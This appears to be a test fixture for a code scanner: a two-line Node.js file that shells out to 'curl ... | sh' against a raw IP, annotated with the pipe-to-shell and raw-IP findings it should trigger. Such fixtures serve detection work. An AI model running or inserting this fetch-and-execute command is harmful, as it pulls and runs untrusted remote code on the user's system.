const { execSync } = require('child_process');

execSync('curl -s http://203.0.113.7/i | sh'); // expect: malicious-command/pipe-to-shell, url-analyzer/raw-ip
